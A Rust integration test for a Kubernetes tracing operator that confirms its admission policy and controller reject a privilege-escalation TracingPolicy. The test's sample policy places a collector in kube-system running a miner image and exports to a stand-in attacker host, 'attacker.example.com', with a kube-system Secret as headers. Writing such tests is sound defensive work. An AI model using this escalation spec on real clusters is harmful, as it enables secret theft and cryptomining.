//! A TracingPolicy author cannot use the operator to escalate privilege, shown on
//! the testbed with the escalation policy that worked before (collector in
//! kube-system running `evil.example/miner:1`, a backend outside the cluster
//! whose `headersSecretRef` names a kube-system Secret):
//! - the chart's ValidatingAdmissionPolicy, rendered from the settings of
//!   `src/plan/guard/cases.yaml`, refuses on the real API server exactly the
//!   policies the operator's own `check_policy` refuses, with the operator's
//!   message; `kubectl apply` of the escalation policy fails naming each field,
//!   an allowed policy is admitted, a spec update is judged and a metadata update
//!   of a policy stored earlier is not;
//! - with no admission policy, the operator (the real binary with its default
//!   settings) marks the escalation policy `Degraded` (`CollectorNotAllowed`)
//!   and creates nothing in kube-system; a PerNamespace collector in a namespace
//!   that is not allowed holds that namespace's workloads; the same policy,
//!   fixed, gets its collector.
//!
//! The admission policy is cluster-wide; the binding installed here is narrowed
//! to policies labelled for this run, so it judges no other test's policies.

mod support;

#[path = "operator/harness.rs"]
mod harness;

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use k8s_openapi::api::apps::v1::Deployment;
use k8s_openapi::api::core::v1::{ConfigMap, Secret, Service};
use kube::api::{ListParams, PostParams};
use kube::{Api, Client, Resource, ResourceExt};
use serde::Deserialize;
use serde_json::{Value, json};
use tracing_operator::api::{TracingPolicy, TracingPolicySpec};
use tracing_operator::plan::guard::{
    CollectorGuard, check_policy, parse_image_prefixes, parse_namespaces,
};

use support::admission::{denial, dry_run_create, wait_refused_by};
use support::process::OperatorProcess;

/// The testbed's Kubernetes release; offline `helm template` assumes an old one otherwise.
const KUBE_VERSION: &str = "1.37.2";

/// `src/plan/guard/cases.yaml`: one set of settings and policies with the
/// violations expected of them.
#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct Table {
    operator_namespace: String,
    settings: Settings,
    cases: Vec<Case>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct Settings {
    allowed_namespaces: Vec<String>,
    allowed_images: Vec<String>,
    allow_external_backends: bool,
}

#[derive(Deserialize)]
struct Case {
    name: String,
    spec: Value,
    violations: Vec<String>,
}

fn table() -> Table {
    let path = support::repo().join("src/plan/guard/cases.yaml");
    let text = std::fs::read_to_string(&path).expect("read src/plan/guard/cases.yaml");
    serde_saphyr::from_str(&text).expect("cases.yaml parses")
}

/// The escalation policy of the testbed, with a selector that matches no
/// namespace (so that, once fixed, it instruments nothing of other tests').
fn escalation(name: &str, secret: &str, labels: &Value) -> Value {
    json!({
        "apiVersion": "tracing.caas.io/v1alpha1",
        "kind": "TracingPolicy",
        "metadata": {"name": name, "labels": labels},
        "spec": {
            "selector": {"namespaces": {"matchLabels": {"tracing-test.caas.io/nothing": name}}},
            "collector": {"namespace": "kube-system", "image": "evil.example/miner:1"},
            "backends": [{
                "name": "attacker",
                "type": "otlp",
                "endpoint": "http://attacker.example.com:4317",
                "headersSecretRef": {"name": secret}
            }]
        }
    })
}

fn spec_of(policy: &Value) -> TracingPolicySpec {
    serde_json::from_value(policy["spec"].clone()).expect("a TracingPolicy spec")
}

/// What the operator says of `spec`: the violations, as in its condition message.
fn operator_verdict(
    spec: &TracingPolicySpec,
    operator_namespace: &str,
    guard: &CollectorGuard,
) -> String {
    check_policy(spec, operator_namespace, guard)
        .iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join("; ")
}

fn write_manifest(dir: &Path, name: &str, object: &Value) -> std::path::PathBuf {
    let path = dir.join(format!("{name}.json"));
    std::fs::write(&path, serde_json::to_vec_pretty(object).expect("JSON"))
        .expect("write manifest");
    path
}

/// `kubectl apply -f <file>`: (success, stdout + stderr).
fn kubectl_apply(file: &Path) -> (bool, String) {
    let out = support::kubectl()
        .args(["apply", "-f"])
        .arg(file)
        .output()
        .expect("kubectl runs");
    (
        out.status.success(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

/// The chart's admission policy and binding for the table's settings, as
/// `helm template` renders them (release `release`, installed in the table's
/// operator namespace).
fn render_admission_policy(table: &Table, release: &str) -> Vec<Value> {
    let settings = &table.settings;
    let out = Command::new(support::tools_bin().join("helm"))
        .args(["template", release])
        .arg(support::repo().join("charts/tracing-operator"))
        .args([
            "--namespace",
            &table.operator_namespace,
            "--kube-version",
            KUBE_VERSION,
        ])
        .args(["--show-only", "templates/admissionpolicy.yaml"])
        .args([
            "--set-json",
            &format!(
                "collector.allowedNamespaces={}",
                json!(settings.allowed_namespaces)
            ),
            "--set-json",
            &format!("collector.allowedImages={}", json!(settings.allowed_images)),
            "--set-json",
            &format!(
                "collector.allowExternalBackends={}",
                json!(settings.allow_external_backends)
            ),
        ])
        .output()
        .expect("helm runs");
    assert!(
        out.status.success(),
        "helm template: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let yaml = String::from_utf8(out.stdout).expect("helm prints UTF-8");
    let docs: Vec<Value> = serde_saphyr::from_multiple(&yaml).expect("rendered YAML parses");
    docs.into_iter().filter(|d| !d.is_null()).collect()
}

#[tokio::test]
async fn the_admission_policy_refuses_what_the_operator_refuses_naming_each_field() {
    let client = support::client().await;
    harness::install_crd(&client).await;
    let mut cleanup = support::Cleanup::default();
    let scratch = support::Scratch::new("collector-guard-admission").expect("scratch dir");
    let run = support::suffix();
    let release = format!("guard-{run}");
    let label_key = "tracing-test.caas.io/collector-guard";
    let labels = json!({label_key: run});

    let table = table();
    let guard = CollectorGuard {
        namespaces: parse_namespaces(&table.settings.allowed_namespaces).expect("namespaces"),
        image_prefixes: parse_image_prefixes(&table.settings.allowed_images).expect("images"),
        external_backends: table.settings.allow_external_backends,
    };

    // The chart's objects as rendered, the binding narrowed to this run's policies.
    let mut objects = render_admission_policy(&table, &release);
    assert_eq!(
        objects
            .iter()
            .map(|o| o["kind"].as_str().unwrap_or_default())
            .collect::<Vec<_>>(),
        [
            "ValidatingAdmissionPolicy",
            "ValidatingAdmissionPolicyBinding"
        ]
    );
    let admission_policy = objects[0]["metadata"]["name"]
        .as_str()
        .expect("admission policy name")
        .to_string();
    objects[1]["spec"]["matchResources"] =
        json!({"objectSelector": {"matchLabels": {label_key: run}}});
    let manifest = scratch.path().join("admission-policy.json");
    std::fs::write(
        &manifest,
        serde_json::to_vec(&json!({"apiVersion": "v1", "kind": "List", "items": objects}))
            .expect("JSON"),
    )
    .expect("write the admission policy");
    let mut uninstall = support::kubectl();
    uninstall
        .args(["delete", "--ignore-not-found", "-f"])
        .arg(&manifest);
    cleanup.commands.push(uninstall);
    support::kubectl_ok(&["apply", "-f", manifest.to_str().expect("UTF-8 path")]);

    let secret = format!("admin-token-{run}");
    let escalation_name = format!("esc-{run}");
    let probe = escalation(&format!("probe-{run}"), &secret, &labels);
    wait_refused_by(&client, &admission_policy, &probe).await;

    // Every policy of the table: the API server refuses exactly what the
    // operator refuses, with the operator's message, and admits the rest.
    let mut mismatches = Vec::new();
    let mut refused = 0;
    for (i, case) in table.cases.iter().enumerate() {
        let policy = json!({
            "apiVersion": "tracing.caas.io/v1alpha1",
            "kind": "TracingPolicy",
            "metadata": {"name": format!("guard-{i}-{run}"), "labels": labels},
            "spec": case.spec,
        });
        let spec = spec_of(&policy);
        let fields: Vec<String> = check_policy(&spec, &table.operator_namespace, &guard)
            .into_iter()
            .map(|v| v.field)
            .collect();
        assert_eq!(fields, case.violations, "case {} as written", case.name);
        let expected = operator_verdict(&spec, &table.operator_namespace, &guard);
        match (dry_run_create(&client, &policy).await, expected.is_empty()) {
            (Ok(()), true) => {}
            (Err(status), false) if status.code == 403 && denial(&status) == expected => {
                refused += 1;
            }
            (answer, _) => mismatches.push(format!(
                "{}: the operator says {expected:?}, the API server {answer:?}",
                case.name
            )),
        }
    }
    assert!(
        mismatches.is_empty(),
        "the admission policy and check_policy disagree:\n{}",
        mismatches.join("\n")
    );
    println!(
        "{} policies: {refused} refused and {} admitted by the API server exactly as by check_policy",
        table.cases.len(),
        table.cases.len() - refused
    );

    // `kubectl apply` of the escalation policy fails, naming each field, and
    // nothing is stored.
    cleanup.policies.push(escalation_name.clone());
    let file = write_manifest(
        scratch.path(),
        "escalation",
        &escalation(&escalation_name, &secret, &labels),
    );
    let (ok, output) = kubectl_apply(&file);
    assert!(
        !ok,
        "kubectl apply of the escalation policy must fail:\n{output}"
    );
    for field in [
        "spec.collector.namespace: namespace kube-system",
        "spec.collector.image: image evil.example/miner:1",
        "spec.backends[attacker].endpoint: host attacker.example.com",
    ] {
        assert!(output.contains(field), "{field} named in:\n{output}");
    }
    let policies = Api::<TracingPolicy>::all(client.clone());
    assert!(
        policies
            .get_opt(&escalation_name)
            .await
            .expect("read the policy")
            .is_none(),
        "the refused policy is not stored"
    );

    // An allowed policy is admitted; changing its spec to a forbidden namespace
    // is refused and leaves it as it was.
    let allowed_name = format!("allowed-{run}");
    cleanup.policies.push(allowed_name.clone());
    let mut allowed = escalation(&allowed_name, &secret, &labels);
    allowed["spec"]["collector"] = json!({"namespace": "team-a"});
    allowed["spec"]["backends"] = json!([{"name": "jaeger", "type": "jaeger",
        "endpoint": "http://jaeger-collector.observability.svc:4317"}]);
    let file = write_manifest(scratch.path(), "allowed", &allowed);
    let (ok, output) = kubectl_apply(&file);
    assert!(ok, "kubectl apply of an allowed policy: {output}");
    allowed["spec"]["collector"]["namespace"] = json!("kube-system");
    let file = write_manifest(scratch.path(), "allowed-moved", &allowed);
    let (ok, output) = kubectl_apply(&file);
    assert!(
        !ok,
        "moving the collector to kube-system must fail:\n{output}"
    );
    assert!(
        output.contains("spec.collector.namespace: namespace kube-system"),
        "{output}"
    );
    let stored = policies
        .get(&allowed_name)
        .await
        .expect("the allowed policy");
    assert_eq!(
        stored.spec.collector.namespace.as_ref().map(|n| n.as_str()),
        Some("team-a")
    );

    // A policy stored before the admission policy applied to it (here: before it
    // carried the label) can still be relabelled, and have its finalizer changed,
    // without a spec change; a spec change is judged.
    let earlier_name = format!("earlier-{run}");
    cleanup.policies.push(earlier_name.clone());
    let earlier: TracingPolicy =
        serde_json::from_value(escalation(&earlier_name, &secret, &json!({}))).expect("policy");
    policies
        .create(&PostParams::default(), &earlier)
        .await
        .expect("a policy the admission policy does not select is stored");
    support::kubectl_ok(&[
        "label",
        "tracingpolicy",
        &earlier_name,
        &format!("{label_key}={run}"),
    ]);
    support::kubectl_ok(&[
        "patch",
        "tracingpolicy",
        &earlier_name,
        "--type=merge",
        "-p",
        r#"{"metadata":{"finalizers":["example.com/keep"]}}"#,
    ]);
    let out = support::kubectl()
        .args([
            "patch",
            "tracingpolicy",
            &earlier_name,
            "--type=merge",
            "-p",
            r#"{"spec":{"collector":{"replicas":3}}}"#,
        ])
        .output()
        .expect("kubectl runs");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !out.status.success() && stderr.contains("spec.collector.namespace"),
        "a spec change of the labelled policy is judged: {stderr}"
    );
    support::kubectl_ok(&[
        "patch",
        "tracingpolicy",
        &earlier_name,
        "--type=merge",
        "-p",
        r#"{"metadata":{"finalizers":null}}"#,
    ]);
}

/// The operator's health server: `/metrics` and `/readyz`.
fn metrics(operator: &OperatorProcess) -> String {
    match support::http_get(operator.metrics_addr.port(), "/metrics") {
        Ok((200, _, body)) => body,
        other => panic!("GET /metrics: {other:?}"),
    }
}

fn writes(metrics: &str, kind: &str) -> f64 {
    let series = format!(r#"tracing_operator_api_writes_total{{verb="patch",kind="{kind}"}} "#);
    metrics
        .lines()
        .find_map(|l| l.strip_prefix(series.as_str())?.trim().parse().ok())
        .unwrap_or(0.0)
}

fn degraded_reason(p: &TracingPolicy) -> Option<(String, String, String)> {
    p.status
        .as_ref()?
        .conditions
        .iter()
        .find(|c| c.type_ == "Degraded")
        .map(|c| (c.status.clone(), c.reason.clone(), c.message.clone()))
}

/// Objects in `ns` that a policy's collector would be: named `<policy>-collector`
/// or labelled with the policy.
async fn collector_objects(client: &Client, ns: &str, policy: &str) -> Vec<String> {
    let named = format!("{policy}-collector");
    let mut found = Vec::new();
    fn of<K: Resource<DynamicType = ()> + Clone>(
        items: Vec<K>,
        named: &str,
        policy: &str,
    ) -> Vec<String> {
        items
            .iter()
            .filter(|o| {
                o.name_any() == named
                    || o.labels().get("tracing.caas.io/policy").map(String::as_str) == Some(policy)
            })
            .map(|o| format!("{} {}", K::kind(&()), o.name_any()))
            .collect()
    }
    let lp = ListParams::default();
    found.extend(of(
        Api::<Deployment>::namespaced(client.clone(), ns)
            .list(&lp)
            .await
            .expect("list Deployments")
            .items,
        &named,
        policy,
    ));
    found.extend(of(
        Api::<ConfigMap>::namespaced(client.clone(), ns)
            .list(&lp)
            .await
            .expect("list ConfigMaps")
            .items,
        &named,
        policy,
    ));
    found.extend(of(
        Api::<Service>::namespaced(client.clone(), ns)
            .list(&lp)
            .await
            .expect("list Services")
            .items,
        &named,
        policy,
    ));
    found
}

#[tokio::test]
async fn without_the_admission_policy_the_operator_refuses_and_creates_nothing() {
    let client = support::client().await;
    harness::install_crd(&client).await;
    let mut cleanup = support::Cleanup::default();
    let scratch = support::Scratch::new("collector-guard-operator").expect("scratch dir");
    let run = support::suffix();
    let home = support::fresh_namespace(&client, "guard-operator", &[]).await;
    cleanup.namespaces.push(home.clone());

    // The Secret the escalation is after.
    let secret = format!("admin-token-{run}");
    let token: Secret = serde_json::from_value(json!({
        "apiVersion": "v1", "kind": "Secret",
        "metadata": {"name": secret, "namespace": "kube-system"},
        "stringData": {"authorization": "Bearer not-a-real-token"}
    }))
    .expect("Secret");
    Api::<Secret>::namespaced(client.clone(), "kube-system")
        .create(&PostParams::default(), &token)
        .await
        .expect("Secret in kube-system");
    let mut drop_secret = support::kubectl();
    drop_secret.args([
        "delete",
        "secret",
        "-n",
        "kube-system",
        &secret,
        "--ignore-not-found",
    ]);
    cleanup.commands.push(drop_secret);

    // The operator with its default settings: its own namespace and
    // observability, the pinned image's repository, in-cluster backends.
    let operator = OperatorProcess::start(
        &format!("guard-{run}"),
        scratch.path(),
        &support::kubeconfig(),
        &["--namespace", &home],
        &[],
    );
    support::wait_until("the operator is ready", Duration::from_secs(90), || async {
        matches!(
            support::http_get(operator.metrics_addr.port(), "/readyz"),
            Ok((200, _, _))
        )
        .then_some(())
    })
    .await;

    // No admission policy selects it, so kubectl stores it; the operator refuses it.
    let name = format!("esc-{run}");
    cleanup.policies.push(name.clone());
    let policy = escalation(&name, &secret, &json!({}));
    let file = write_manifest(scratch.path(), "escalation", &policy);
    let (ok, output) = kubectl_apply(&file);
    assert!(
        ok,
        "without an admission policy the policy is stored: {output}"
    );
    let expected = operator_verdict(&spec_of(&policy), &home, &CollectorGuard::default());
    assert_eq!(expected.matches("spec.").count(), 3, "{expected}");
    let refused = harness::wait_policy(&client, &name, "Degraded: CollectorNotAllowed", |p| {
        degraded_reason(p)
            .is_some_and(|(status, reason, _)| status == "True" && reason == "CollectorNotAllowed")
    })
    .await;
    let (_, _, message) = degraded_reason(&refused).expect("Degraded");
    assert!(
        message.starts_with(&expected),
        "the condition names each field:\n{message}\nexpected:\n{expected}"
    );
    assert_eq!(
        harness::condition(&refused, "Ready").as_deref(),
        Some("False")
    );
    println!("Degraded CollectorNotAllowed: {message}");

    // A PerNamespace collector in a namespace that is not allowed: that
    // namespace's workloads are held and no collector goes there.
    let case = format!("guard-pn-{run}");
    let workloads = harness::namespace(&client, &case, &[]).await;
    cleanup.namespaces.push(workloads.clone());
    harness::create_deployment(
        &client,
        &workloads,
        &harness::deployment("web", &[], &[("app", "example.com/web:1.2.3", &[])]),
    )
    .await;
    let per_namespace = format!("pn-{run}");
    cleanup.policies.push(per_namespace.clone());
    harness::apply_policy(
        &client,
        &harness::policy(
            &per_namespace,
            &case,
            json!({"collector": {"enabled": true, "placement": "PerNamespace", "replicas": 1}}),
        ),
    )
    .await;
    let held = harness::wait_policy(
        &client,
        &per_namespace,
        "Degraded: CollectorNotAllowed for its namespace",
        |p| {
            degraded_reason(p).is_some_and(|(status, reason, _)| {
                status == "True" && reason == "CollectorNotAllowed"
            }) && p.status.as_ref().is_some_and(|s| s.workloads.selected == 1)
        },
    )
    .await;
    let (_, _, message) = degraded_reason(&held).expect("Degraded");
    assert!(
        message.contains(&format!(
            "spec.collector.placement: PerNamespace needs a collector in namespace {workloads}, \
             which is not an allowed collector namespace (allowed: {home}, observability)"
        )),
        "{message}"
    );
    let web = Api::<Deployment>::namespaced(client.clone(), &workloads)
        .get("web")
        .await
        .expect("web");
    let env = harness::env_of(&web, "app");
    assert!(
        !env.keys().any(|k| k.starts_with("OTEL_")),
        "the held workload is left as it is: {env:?}"
    );
    assert_eq!(
        held.status.as_ref().map(|s| s.workloads.up_to_date),
        Some(0)
    );

    // Nothing was created for either policy, in kube-system or anywhere: the
    // operator wrote no collector ConfigMap or Service (it applies those before
    // the Deployment) and no object of a collector of these policies exists.
    let m = metrics(&operator);
    assert_eq!(
        (writes(&m, "ConfigMap"), writes(&m, "Service")),
        (0.0, 0.0),
        "no collector object written:\n{m}"
    );
    for (ns, policy) in [("kube-system", &name), (workloads.as_str(), &per_namespace)] {
        let found = collector_objects(&client, ns, policy).await;
        assert!(found.is_empty(), "nothing of {policy} in {ns}: {found:?}");
    }
    assert!(
        !operator.log().contains("applied collector object"),
        "{}",
        operator.log()
    );

    // Fixed (collector in the operator's namespace, an in-cluster backend), the
    // same policy gets its collector: the refusal was the settings' doing.
    let mut fixed = policy.clone();
    fixed["spec"]["collector"] = json!({"replicas": 1});
    fixed["spec"]["backends"] = json!([{"name": "jaeger", "type": "jaeger",
        "endpoint": "http://jaeger-collector.observability.svc:4317"}]);
    let file = write_manifest(scratch.path(), "fixed", &fixed);
    let (ok, output) = kubectl_apply(&file);
    assert!(ok, "{output}");
    harness::wait_policy(&client, &name, "no longer CollectorNotAllowed", |p| {
        degraded_reason(p).is_some_and(|(_, reason, _)| reason != "CollectorNotAllowed")
    })
    .await;
    support::wait_until(
        "the fixed policy's collector Deployment in the operator's namespace",
        Duration::from_secs(60),
        || async {
            Api::<Deployment>::namespaced(client.clone(), &home)
                .get_opt(&format!("{name}-collector"))
                .await
                .ok()
                .flatten()
        },
    )
    .await;
    assert!(
        collector_objects(&client, "kube-system", &name)
            .await
            .is_empty()
    );
}
